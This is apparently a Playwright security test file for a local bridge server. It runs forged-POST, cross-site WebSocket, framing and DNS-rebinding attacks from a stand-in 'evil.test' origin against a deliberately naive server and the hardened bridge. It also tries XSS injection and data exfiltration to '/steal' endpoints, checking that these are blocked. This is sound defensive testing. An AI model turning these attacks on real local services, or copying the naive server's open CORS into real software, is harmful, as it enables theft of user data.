/**
 * Four attacks from another website, in a real browser, on the hardened bridge and on a naive one. The naive one has to
 * fall to every attack: otherwise the attack proves nothing.
 */
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, type Page as BrowserPage, test } from 'playwright/test';
import { Server } from 'socket.io';
import { realClock } from '../../main/platform/clock.ts';
import { systemRandom } from '../../main/platform/random.ts';
import { startBridge, type Bridge } from '../../main/wire/bridge/bridge.ts';
import { loadPage } from '../../main/wire/bridge/page.ts';
import { findChromium } from '../../scripts/find-chromium.mjs';
import { recordingLog } from '../fakes/log.ts';

const executablePath = findChromium();
const SECRET = 'balance 48213.77';
const PAGE =
  '<!doctype html><title>Parley</title><p id="out">waiting</p><script type="module" src="/page.js"></script>';
/** Speaks socket.io by hand, so that attacker and honest page differ in nothing but what they know. */
const CLIENT = `
  export const read = (host, token) => new Promise((resolve) => {
    const socket = new WebSocket('ws://' + host + '/socket.io/?EIO=4&transport=websocket');
    socket.onerror = () => resolve('refused');
    socket.onmessage = ({ data }) => {
      if (data.startsWith('0')) socket.send('40/app,' + JSON.stringify({ token }));
      else if (data.startsWith('40')) socket.send('42/app,0["call","secret",{}]');
      else if (data.startsWith('43')) resolve(data);
      else if (data.startsWith('44')) resolve('refused');
    };
  });`;
const HONEST = `${CLIENT}
  const token = new URLSearchParams(location.hash.slice(1)).get('token');
  history.replaceState(null, '', '#/');
  window.tryEval = () => new Promise((resolve) => setTimeout(() => {
    try { eval('window.hit = 1'); resolve('done'); } catch { resolve('blocked'); }
  }));
  document.getElementById('out').textContent = await read(location.host, token);`;

test.use({
  launchOptions: {
    ...(executablePath === undefined ? {} : { executablePath }),
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--host-resolver-rules=MAP evil.test 127.0.0.1,MAP rebind.test 127.0.0.1',
    ],
  },
});

interface Target {
  readonly host: string;
  /** What an attacker made it do. */
  readonly commands: () => number;
}

let home: string;
let bridge: Bridge;
let naive: HttpServer;
let evil: HttpServer;
const stolen: string[] = [];
const log = recordingLog();

const hostOf = (server: HttpServer): string => `127.0.0.1:${String((server.address() as AddressInfo).port)}`;
const evilOrigin = (): string => `http://evil.test:${String((evil.address() as AddressInfo).port)}`;
const listening = (server: HttpServer): Promise<void> =>
  new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      resolve();
    }),
  );

/** What a bridge looks like when nobody thought of other websites. */
function naiveServer(): { server: HttpServer; commands: () => number } {
  let commands = 0;
  const server = createServer((request, response) => {
    if (request.method === 'POST') commands += 1;
    const isScript = request.url === '/page.js';
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.end(request.url === '/secret' ? SECRET : isScript ? HONEST : PAGE);
  });
  const io = new Server(server, { cors: { origin: '*' } });
  io.of('/app').on('connection', (socket) => {
    socket.on('call', (_method: string, _input: unknown, acknowledge: (value: unknown) => void) => {
      acknowledge({ kind: 'ok', value: SECRET });
    });
  });
  return { server, commands: () => commands };
}

function evilServer(): HttpServer {
  return createServer((request, response) => {
    if (request.url?.startsWith('/steal') === true) stolen.push(request.url);
    const isScript = request.url === '/client.js';
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.end(isScript ? CLIENT : '<!doctype html><title>evil</title>');
  });
}

let targets: Record<'naive' | 'hardened', Target>;

test.beforeAll(async () => {
  home = mkdtempSync(path.join(tmpdir(), 'parley-attacks-'));
  const directory = path.join(home, 'page');
  mkdirSync(directory);
  writeFileSync(path.join(directory, 'index.html'), PAGE);
  writeFileSync(path.join(directory, 'page.js'), HONEST);
  writeFileSync(path.join(directory, 'files.json'), JSON.stringify({ files: ['index.html', 'page.js'] }));
  const uploadDirectory = path.join(home, 'uploads');
  let calls = 0;
  bridge = await startBridge({
    answer: () => {
      calls += 1;
      return Promise.resolve({ kind: 'ok', value: SECRET });
    },
    subscribe: () => () => undefined,
    page: loadPage({ directory, start: 'index.html', random: systemRandom }),
    uploadDirectory,
    port: 0,
    clock: realClock,
    random: systemRandom,
    log,
  });
  const double = naiveServer();
  naive = double.server;
  evil = evilServer();
  await Promise.all([listening(naive), listening(evil)]);
  targets = {
    naive: { host: hostOf(naive), commands: double.commands },
    hardened: {
      host: new URL(bridge.url).host,
      commands: () => calls + readdirSync(uploadDirectory).length,
    },
  };
});

test.afterAll(async () => {
  await bridge.close();
  for (const server of [naive, evil]) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(home, { recursive: true, force: true });
});

async function forgePost(page: BrowserPage, target: Target): Promise<boolean> {
  await page.goto(evilOrigin());
  const send = (host: string): Promise<unknown> =>
    fetch(`http://${host}/upload`, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => undefined);
  await page.evaluate(send, target.host);
  return target.commands() > 0;
}

async function readBySocket(page: BrowserPage, target: Target): Promise<boolean> {
  await page.goto(evilOrigin());
  const answer = await page.evaluate(async (host) => {
    const client = '/client.js';
    const { read } = (await import(client)) as { read: (host: string) => Promise<string> };
    return read(host);
  }, target.host);
  return answer.includes(SECRET);
}

async function frame(page: BrowserPage, target: Target): Promise<boolean> {
  await page.goto(evilOrigin());
  await page.evaluate(
    (host) =>
      new Promise<void>((resolve) => {
        const element = document.createElement('iframe');
        element.src = `http://${host}/`;
        element.onload = () => {
          resolve();
        };
        document.body.append(element);
      }),
    target.host,
  );
  const titles = await Promise.all(
    page
      .frames()
      .slice(1)
      .map((one) => one.title()),
  );
  return titles.includes('Parley');
}

async function rebind(page: BrowserPage, target: Target): Promise<boolean> {
  const port = new URL(`http://${target.host}`).port;
  const response = await page.goto(`http://rebind.test:${port}/`);
  const text = await page.evaluate(async () => (await fetch('/secret')).text()).catch(() => '');
  return response?.status() === 200 && text.includes(SECRET);
}

const attacks = {
  'forged POST': forgePost,
  'cross-site socket': readBySocket,
  framing: frame,
  'DNS rebinding': rebind,
};

for (const [name, attack] of Object.entries(attacks)) {
  test(`${name} works on a naive bridge and not on ours`, async ({ page }) => {
    expect(await attack(page, targets.naive)).toBe(true);
    expect(await attack(page, targets.hardened)).toBe(false);
  });
}

test('the honest page reads with the token of its link, which then stands nowhere', async ({ page }) => {
  await page.goto(bridge.url);
  await expect(page.locator('#out')).toContainText(SECRET);
  expect(page.url()).not.toContain('token');
  await page.reload();
  await expect(page.locator('#out')).toHaveText('refused');
});

test('the page can neither run code from text nor send anything elsewhere', async ({ page }) => {
  await page.goto(bridge.url);
  const outcome = await page.evaluate(async (origin) => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
    const tried = async (act: () => unknown): Promise<string> => {
      try {
        await act();
        return 'done';
      } catch {
        return 'blocked';
      }
    };
    const results = [
      await tried(() => {
        document.body.innerHTML = '<img src=x onerror="window.hit = 1">';
      }),
      await tried(() => {
        const script = document.createElement('script');
        script.text = 'window.hit = 1';
        document.head.append(script);
      }),
      await (window as unknown as { tryEval: () => Promise<string> }).tryEval(),
      await tried(() => fetch(`${origin}/steal?fetch`)),
      await tried(
        () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = reject;
            image.src = `${origin}/steal?image`;
          }),
      ),
    ];
    return { results, violated, hit: 'hit' in window };
  }, evilOrigin());
  expect(outcome.results).toEqual(Array.from({ length: 5 }, () => 'blocked'));
  expect(outcome.hit).toBe(false);
  expect(stolen).toEqual([]);
  expect(outcome.violated).toEqual(
    expect.arrayContaining(['require-trusted-types-for', 'connect-src', 'img-src']),
  );
});

test('permissions are refused without a question', async ({ page }) => {
  await page.goto(bridge.url);
  const code = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => {
            resolve(0);
          },
          (error) => {
            resolve(error.code);
          },
        );
      }),
  );
  expect(code).toBe(1); // PERMISSION_DENIED
});
